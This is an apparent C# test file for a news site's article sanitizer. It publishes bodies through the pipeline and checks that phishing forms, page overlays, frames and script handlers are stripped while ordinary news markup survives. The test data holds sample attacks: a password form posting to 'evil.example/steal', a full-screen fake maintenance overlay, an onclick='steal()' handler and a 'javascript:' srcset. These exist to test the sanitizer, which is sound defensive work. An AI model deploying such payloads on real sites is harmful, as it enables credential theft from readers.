using ServerlessNews.Articles;
using ServerlessNews.Rendering;
using ServerlessNews.Tests.Comments;
using ServerlessNews.Tests.Infrastructure;

namespace ServerlessNews.Tests.Security;

/// <summary>
/// Article bodies from a CMS or the inbox are published on the site's own origin: a phishing form or a page-wide
/// overlay in one must not survive to the page. Published through the real pipeline into a real Azurite.
/// </summary>
public sealed class ArticleHtmlTests(StorageFixture storage) : IClassFixture<StorageFixture>
{
    private const string Phishing = """
        <p>Your session has expired.</p>
        <form action="https://evil.example/login" method="post"><label>Password <input type="password" name="password"></label>
        <button formaction="https://evil.example/steal">Sign in again</button><select name="s"><option>x</option></select><textarea name="t"></textarea></form>
        <div style="position:fixed;top:0;left:0;width:100%;height:100%;z-index:99999;background:#fff">Site maintenance: <a href="https://evil.example/">continue</a></div>
        <p style="position:absolute;top:-100px;margin-top:-500px">Floating text</p>
        <iframe src="https://evil.example/frame"></iframe><object data="https://evil.example/x.swf"></object><embed src="https://evil.example/y">
        <a href="https://example.test/report" target="_blank" onclick="steal()">The report</a>
        """;

    private async Task<AngleSharp.Dom.IElement> PublishAsync(string id, string format, string content)
    {
        await storage.SubmitAsync(TestArticles.Valid(id).WithBody(format, content));
        await storage.DrainPublishQueueAsync();
        var page = Html.Parse((await storage.PageAsync($"/world/2026/11/27/{id}/"))!);
        return page.QuerySelector(".article-body")!;
    }

    [Theory]
    [InlineData("html")]
    [InlineData("markdown")]
    public async Task A_phishing_form_an_overlay_or_a_frame_in_the_body_never_reaches_the_page(string format)
    {
        var body = await PublishAsync("phishing-" + format, format, Phishing);

        Assert.Null(body.QuerySelector("form, input, button, select, textarea, option, iframe, object, embed, [formaction], [target], [onclick]"));
        Assert.DoesNotContain(body.QuerySelectorAll("[style]"), e => e.GetAttribute("style")!.Contains("position", StringComparison.OrdinalIgnoreCase) ||
            e.GetAttribute("style")!.Contains("margin", StringComparison.OrdinalIgnoreCase) || e.GetAttribute("style")!.Contains("z-index", StringComparison.OrdinalIgnoreCase));
        // The copy itself stays.
        Assert.Contains("Your session has expired.", body.TextContent, StringComparison.Ordinal);
        Assert.Equal("https://example.test/report", body.QuerySelector("a[href^='https://example.test']")!.GetAttribute("href"));
    }

    [Fact]
    public async Task News_markup_survives_the_allow_list_with_raw_html_in_the_markdown()
    {
        // Raw HTML makes the sanitizer run over everything Markdig's extensions produced.
        const string markdown = """
            Intro with <abbr title="European Union">EU</abbr> and H~2~O, x^2^, ==marked==, ~~struck~~ and `code`.

            | Party | Seats |
            |:--|--:|
            | Blue | 41 |

            A claim[^1].

            ^^^
            ![Bridge at dawn](https://images.example.test/bridge.jpg "The bridge")
            ^^^ The bridge at dawn.

            <figure><img src="https://images.example.test/a.jpg" alt="A" width="800" height="450" srcset="https://images.example.test/a-400.jpg 400w, https://images.example.test/a-800.jpg 800w" sizes="(max-width: 600px) 400px, 800px" loading="lazy" decoding="async"><figcaption>Caption <em>here</em></figcaption></figure>

            <img src="https://images.example.test/b.jpg" alt="B" srcset="javascript:alert(1) 1x, https://images.example.test/b-2x.jpg 2x">

            > A quote

            Term
            :   Definition

            ```csharp
            var x = 1;
            ```

            [^1]: The source.
            """;
        var body = await PublishAsync("news-markup", "markdown", markdown);

        Assert.Equal("European Union", body.QuerySelector("abbr")!.GetAttribute("title"));
        Assert.NotNull(body.QuerySelector("sub"));
        Assert.NotNull(body.QuerySelector("sup"));
        Assert.NotNull(body.QuerySelector("mark"));
        Assert.NotNull(body.QuerySelector("del"));
        Assert.StartsWith("text-align: right", body.QuerySelector("td:last-child")!.GetAttribute("style"), StringComparison.Ordinal);
        Assert.Equal("#fn:1", body.QuerySelector("a.footnote-ref")!.GetAttribute("href"));
        Assert.NotNull(body.QuerySelector("li[id='fn:1'] a.footnote-back-ref[href='#fnref:1']"));
        Assert.NotNull(body.QuerySelector("a[id='fnref:1']"));
        Assert.Equal("The bridge at dawn.", body.QuerySelectorAll("figure figcaption")[0].TextContent);
        var img = body.QuerySelector("img[alt=A]")!;
        foreach (var (name, value) in new[] { ("width", "800"), ("height", "450"), ("sizes", "(max-width: 600px) 400px, 800px"), ("loading", "lazy"), ("decoding", "async") })
        {
            Assert.Equal(value, img.GetAttribute(name));
        }
        Assert.Contains("a-800.jpg 800w", img.GetAttribute("srcset"), StringComparison.Ordinal);
        Assert.Equal("here", body.QuerySelector("figcaption em")!.TextContent);
        // The sanitizer checks each srcset candidate's address: the script one is dropped.
        Assert.Equal("https://images.example.test/b-2x.jpg 2x", body.QuerySelector("img[alt=B]")!.GetAttribute("srcset"));
        Assert.NotNull(body.QuerySelector("blockquote"));
        Assert.NotNull(body.QuerySelector("dl dt + dd"));
        Assert.Equal("language-csharp", body.QuerySelector("pre code")!.ClassName);
    }

    [Fact]
    public void The_owasp_vectors_as_article_bodies_leave_nothing_that_runs_or_moves()
    {
        var renderer = new BodyRenderer();
        foreach (var vector in XssCorpus.Vectors)
        {
            foreach (var format in new[] { BodyFormat.Html, BodyFormat.Markdown })
            {
                var body = Html.Parse("<main>" + renderer.Render(new ArticleBody(format, vector), null) + "</main>").QuerySelector("main")!;
                var found = body.QuerySelector("script, style, iframe, frame, object, embed, svg, math, form, input, button, meta, link, base, [srcdoc], [formaction]");
                Assert.True(found is null, $"{format} {vector}: {found?.OuterHtml}");
                foreach (var element in body.QuerySelectorAll("*"))
                {
                    foreach (var attribute in element.Attributes)
                    {
                        Assert.False(attribute.Name.StartsWith("on", StringComparison.OrdinalIgnoreCase), $"{format} {vector}: {element.OuterHtml}");
                        Assert.False(attribute.Name is "href" or "src" or "srcset" or "cite" && !attribute.Value.StartsWith("http", StringComparison.OrdinalIgnoreCase) &&
                            attribute.Value.Contains(':', StringComparison.Ordinal) && !attribute.Value.StartsWith("mailto:", StringComparison.OrdinalIgnoreCase),
                            $"{format} {vector}: {element.OuterHtml}");
                        Assert.False(attribute.Name == "style" && attribute.Value.Split(';', StringSplitOptions.RemoveEmptyEntries | StringSplitOptions.TrimEntries)
                            .Any(rule => !rule.StartsWith("text-align", StringComparison.Ordinal) && !rule.StartsWith("width", StringComparison.Ordinal)), $"{format} {vector}: {element.OuterHtml}");
                    }
                }
            }
        }
    }
}
